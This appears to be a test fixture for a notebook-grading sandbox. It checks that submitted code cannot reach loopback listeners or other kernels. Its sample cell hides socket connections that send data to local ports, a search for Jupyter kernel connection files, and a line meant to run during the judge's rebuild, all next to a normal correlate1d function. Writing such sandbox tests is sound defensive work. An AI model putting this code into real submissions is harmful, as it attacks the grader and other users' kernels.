"""Connects to TCP ports on 127.0.0.1 (a listener the test runs, and the ports where the
other kernels of a parallel batch would listen) and sends what it can find."""
ASSIGNMENT = "ps1"
ATTACK = "reach the host's loopback: a listener, other kernels"
CELLS = {"correlate1d": '''
import glob, json, socket
for port in [{port}]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"stolen")
        print("connected to", port)
    except OSError as error:
        print("refused:", error)
for path in glob.glob("/root/.local/share/jupyter/runtime/*.json") + glob.glob("/tmp/**/kernel-*.json", recursive=True):
    print("connection file:", path)
# and from the judge's rebuild of the notebook, as an assignment
_ = __import__("socket").create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"judged")

def correlate1d(x, w):
    x = np.asarray(x, dtype=np.float64)
    w = np.asarray(w, dtype=np.float64)
    return np.array([np.sum(x[i:i + len(w)] * w) for i in range(len(x) - len(w) + 1)])
'''}
EXPECT = {}
MESSAGES = []
SIDE_EFFECTS = ["no_connection_received"]
LIMITS = []
